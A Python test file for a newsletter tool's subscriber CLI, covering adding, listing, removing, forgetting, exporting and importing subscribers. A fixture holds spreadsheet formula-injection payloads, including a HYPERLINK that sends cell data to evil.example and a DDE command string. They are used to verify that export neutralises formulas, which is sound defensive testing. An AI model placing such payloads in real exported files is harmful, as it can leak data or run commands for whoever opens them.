"""`newsletter subscribers add|list|export|remove|forget` through the real CLI."""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter.project import open_project
from newsletter.subscribers.exporter import export_csv
from newsletter.subscribers.importer import import_csv

from support.subscribers import by_email, fresh_store, one_error_line, table, write_csv

EXAMPLES = Path(__file__).resolve().parents[2] / "examples"
ANSI = re.compile(r"\x1b\[[0-9;]*m")


def test_add_then_add_again_updates(project, cli):
    first = cli("subscribers", "add", "Sian@Example.ORG", "--name", "Siân", "--language", "cy")
    assert (first.exit_code, first.stdout.strip()) == (0, "added Sian@example.org")
    again = cli("subscribers", "add", "sian@example.org", "--organisation", "Menter Iaith")
    assert again.stdout.strip() == "updated Sian@example.org"
    row = by_email(project)["Sian@example.org"]
    assert (row["name"], row["organisation"], row["language"]) == ("Siân", "Menter Iaith", "cy")
    assert len(row["token"]) == 24


def test_add_refuses_an_invalid_address_in_one_line(project, cli):
    line = one_error_line(cli("subscribers", "add", "not an address"))
    assert "invalid email address 'not an address'" in line
    assert table(project, "subscribers") == []


def test_add_refuses_someone_who_left_unless_resubscribe(project, cli):
    cli("subscribers", "add", "ann@example.org")
    cli("subscribers", "remove", "ann@example.org")
    line = one_error_line(cli("subscribers", "add", "ann@example.org"))
    assert "unsubscribed" in line
    result = cli("subscribers", "add", "ann@example.org", "--resubscribe")
    assert result.stdout.strip() == "resubscribed ann@example.org"
    assert by_email(project)["ann@example.org"]["status"] == "active"


def test_list_shows_a_table_without_tokens(project, cli, monkeypatch):
    monkeypatch.setenv("COLUMNS", "160")  # names on one line each
    cli("subscribers", "import", str(EXAMPLES / "members.csv"))
    result = cli("subscribers", "list")
    assert result.exit_code == 0, result.output
    assert "Llŷr Evans" in result.stdout
    assert "12 subscribers" in result.stdout
    for row in table(project, "subscribers"):
        assert row["token"] not in result.stdout


def test_list_prints_a_colon_name_as_written_not_as_an_emoji(project, cli, monkeypatch):
    monkeypatch.setenv("COLUMNS", "160")
    monkeypatch.setenv("TTY_COMPATIBLE", "1")  # rich: the table, as on a terminal
    cli("subscribers", "add", "dai@example.org", "--organisation", "Tîm :fire: Caerdydd")
    result = cli("subscribers", "list")
    assert "Tîm :fire: Caerdydd" in result.stdout


def test_list_never_wraps_an_address_on_an_80_column_terminal(project, cli, monkeypatch):
    monkeypatch.setenv("COLUMNS", "80")
    monkeypatch.setenv("TTY_COMPATIBLE", "1")  # rich: write as to a terminal

    def listed() -> list[str]:
        return ANSI.sub("", cli("subscribers", "list").stdout).splitlines()

    cli("subscribers", "import", str(EXAMPLES / "members.csv"))
    fits = listed()
    assert max(len(line.rstrip()) for line in fits) <= 80  # the example list fits as it is
    long = "angharad.llewellyn-prichard@cyngor-gwirfoddol-ceredigion.example.org"
    cli("subscribers", "add", long, "--name", "Angharad Llewellyn-Prichard",
        "--organisation", "Cyngor Gwirfoddol Sirol Ceredigion")  # fmt: skip
    for lines in (fits, listed()):
        for row in table(project, "subscribers"):
            if row["email"] != long or lines is not fits:
                assert any(row["email"] in line for line in lines), row["email"]


def test_list_into_a_pipe_streams_plain_columns_page_by_page(project, cli, tmp_path):
    people = tmp_path / "people.csv"
    people.write_text(
        "email,name\n" + "".join(f"p{i:04d}@example.org,P {i}\n" for i in range(1203))
    )
    cli("subscribers", "import", str(people))
    result = cli("subscribers", "list")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0].split() == ["email", "name", "organisation", "lang", "status", "subscribed"]
    rows = [line.split() for line in lines if "@example.org" in line]
    assert [row[0] for row in rows] == [f"p{i:04d}@example.org" for i in range(1203)]
    assert rows[1202][1:4] == ["P", "1202", "active"]
    assert sum("organisation" in line for line in lines) == 1  # one header, for all the pages
    assert lines[-1] == "1203 subscribers"


def test_list_json_is_an_array_for_scripts_without_tokens(project, cli):
    cli("subscribers", "add", "sian@example.org", "--name", "Siân")
    cli("subscribers", "add", "gone@example.org")
    cli("subscribers", "remove", "gone@example.org")
    result = cli("subscribers", "list", "--json")
    records = json.loads(result.stdout)
    assert [r["email"] for r in records] == ["sian@example.org", "gone@example.org"]
    assert records[1]["status"] == "unsubscribed" and records[1]["left_via"] == "cli"
    assert all("token" not in r for r in records)
    assert json.loads(cli("subscribers", "list", "--json", "--status", "bounced").stdout) == []


def test_list_filters_by_status_and_search(project, cli):
    cli("subscribers", "import", str(EXAMPLES / "members.csv"))
    cli("subscribers", "remove", "elin.thomas@example.org")
    found = json.loads(cli("subscribers", "list", "--json", "--search", "Menter").stdout)
    assert {r["email"] for r in found} == {
        "sian.jones@menteriaith.example.org",
        "elin.thomas@example.org",
    }
    active = json.loads(cli("subscribers", "list", "--json", "--status", "active").stdout)
    assert len(active) == 11


def test_unknown_status_is_one_line(project, cli):
    assert "unknown status 'gone'" in one_error_line(cli("subscribers", "list", "--status", "gone"))
    line = one_error_line(cli("subscribers", "export", "--status", "gone"))
    assert "unknown status 'gone'" in line


def test_remove_unsubscribes_and_a_reimport_keeps_them_out(project, cli):
    cli("subscribers", "import", str(EXAMPLES / "members.csv"))
    result = cli("subscribers", "remove", "LLYR.EVANS@example.org")
    assert "unsubscribed llyr.evans@example.org" in result.stdout
    assert "already unsubscribed" in cli("subscribers", "remove", "llyr.evans@example.org").stdout
    again = cli("subscribers", "import", str(EXAMPLES / "members.csv"))
    assert "│ suppressed   │    1 │" in again.stdout
    row = by_email(project)["llyr.evans@example.org"]
    assert (row["status"], row["left_via"]) == ("unsubscribed", "cli")


def test_remove_unknown_address_is_one_line(project, cli):
    assert "no subscriber" in one_error_line(cli("subscribers", "remove", "who@example.org"))


def test_forget_asks_first_and_keeps_everything_on_no(project, cli):
    cli("subscribers", "add", "ann@example.org", "--name", "Ann")
    result = cli("subscribers", "forget", "ann@example.org", input="n\n")
    assert result.exit_code == 0
    assert "ann@example.org was not forgotten; nothing changed" in result.stdout
    assert "ann@example.org" in by_email(project)


def test_forget_with_no_terminal_to_ask_is_an_error_line_not_aborted(project, cli):
    cli("subscribers", "add", "ann@example.org", "--name", "Ann")
    result = cli("subscribers", "forget", "ann@example.org")  # stdin is empty: end of input
    assert result.exit_code == 1
    assert "Aborted" not in result.output
    assert one_error_line(result) == (
        "error: ann@example.org was not forgotten: the question was not answered"
    )
    assert "ann@example.org" in by_email(project)


def test_forget_erases_personal_data_and_history_and_suppresses(project, tmp_path, cli):
    cli("subscribers", "add", "ann@example.org", "--name", "Ann Jones")
    ann_id = by_email(project)["ann@example.org"]["id"]
    result = cli("subscribers", "forget", "ann@example.org", "--yes")
    assert result.exit_code == 0, result.output
    assert "forgot ann@example.org" in result.stdout
    assert table(project, "subscribers") == []
    assert [e for e in table(project, "events") if e["subscriber_id"] == ann_id] == []
    assert len(table(project, "suppressions")) == 1
    assert "ann" not in json.dumps(table(project, "suppressions") + table(project, "events"))
    path = write_csv(tmp_path, "Email,Name\nANN@example.org,Ann Jones\n")
    imported = cli("subscribers", "import", str(path))
    assert "│ suppressed   │    1 │" in imported.stdout
    assert table(project, "subscribers") == []


def test_export_to_stdout_then_import_into_a_fresh_project_round_trips(project, tmp_path, cli):
    cli("subscribers", "import", str(EXAMPLES / "members.csv"), "--source", "members 2026")
    cli("subscribers", "remove", "iolo.morgan@example.org")
    exported = cli("subscribers", "export")
    assert exported.exit_code == 0, exported.output
    header = next(csv.reader(io.StringIO(exported.stdout)))
    assert header == [
        "email",
        "name",
        "organisation",
        "language",
        "status",
        "source",
        "subscribed_at",
        "region",
    ]
    other = tmp_path / "other"
    assert cli("init", str(other)).exit_code == 0
    path = write_csv(tmp_path, exported.stdout, name="export.csv")
    result = cli("subscribers", "import", str(path), project_dir=other)
    assert "│ added        │   11 │" in result.stdout
    assert "│ unsubscribed │    1 │" in result.stdout  # who left stays gone, with the time
    assert comparable(other) == comparable(project)


def test_export_to_a_file_has_a_bom_and_round_trips(project, tmp_path, cli):
    cli("subscribers", "import", str(EXAMPLES / "members.csv"))
    target = tmp_path / "out.csv"
    result = cli("subscribers", "export", str(target), "--status", "active")
    assert "exported 12 subscribers" in result.stdout
    assert target.read_bytes().startswith(codecs.BOM_UTF8)
    again = cli("subscribers", "import", str(target))
    assert "│ unchanged    │   12 │" in again.stdout


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "organisation": "+cmd|' /C calc'!A0",
    "source": "-2+3",  # (a language is only ever a code: cy, en or empty)
    "note": "@SUM(1+1)",
    "quoted": "'=already quoted",
}


def test_export_neutralises_formulas_and_import_restores_them_exactly(project, tmp_path, cli):
    with open_project(project) as (_config, store):
        store.add_subscriber(
            "-dash@example.org",
            name=FORMULAS["name"],
            organisation=FORMULAS["organisation"],
            source=FORMULAS["source"],
        )
        store.conn.execute(
            "UPDATE subscribers SET attributes = ?",
            [json.dumps({"note": FORMULAS["note"], "quoted": FORMULAS["quoted"]})],
        )  # fmt: skip
    target = tmp_path / "out.csv"
    assert cli("subscribers", "export", str(target)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert rows[0]["email"] == "'-dash@example.org"
    for column, value in FORMULAS.items():
        assert rows[0][column] == "'" + value  # a spreadsheet shows it as text, never runs it
    other = tmp_path / "other"
    assert cli("init", str(other)).exit_code == 0
    assert cli("subscribers", "import", str(target), project_dir=other).exit_code == 0
    assert comparable(other) == comparable(project)


def test_export_into_a_missing_folder_is_one_line(project, tmp_path, cli):
    cli("subscribers", "add", "ann@example.org")
    line = one_error_line(cli("subscribers", "export", str(tmp_path / "no" / "such.csv")))
    assert "cannot write" in line
    assert list(tmp_path.glob("**/*.partial")) == []


def comparable(project: Path) -> list[tuple]:
    """What a round trip must keep: everything but ids, tokens and update times."""
    keep = ("email", "name", "organisation", "language", "status", "source", "subscribed_at")
    return sorted(
        (*(row[k] for k in keep), sorted(json.loads(row["attributes"]).items()))
        for row in table(project, "subscribers")
    )


plain_text = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=15)
# Often led by what a spreadsheet reads as a formula, or by apostrophes before it.
text = st.tuples(st.sampled_from(["", "", "=", "+", "-", "@", "'", "'=", "''@"]), plain_text).map(
    "".join
)
attribute_names = st.text(alphabet=st.sampled_from("abcXYZ019 _-()âŷŵ."), min_size=1, max_size=10)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    people=st.lists(st.tuples(text, text, text), min_size=1, max_size=4),
    columns=st.lists(attribute_names, max_size=3),
    cells=st.lists(text, min_size=12, max_size=12),
)
def test_export_import_round_trips_arbitrary_values(people, columns, cells):
    header = ["Email", "Name", "Organisation", "Language", *columns]
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header)
    for index, (name, organisation, language) in enumerate(people):
        extra = cells[index * 3 : index * 3 + len(columns)]
        writer.writerow([f"p{index}@example.org", name, organisation, language, *extra])
    with fresh_store() as (first, store):
        import_csv(store, write_csv(first, buffer.getvalue()))
        exported = io.StringIO()
        export_csv(store, exported)
        with fresh_store() as (second, other):
            report = import_csv(other, write_csv(second, exported.getvalue()))
            assert report.rejected == 0
            assert comparable(second) == comparable(first)
            again = io.StringIO()
            export_csv(other, again)
            assert again.getvalue() == exported.getvalue()
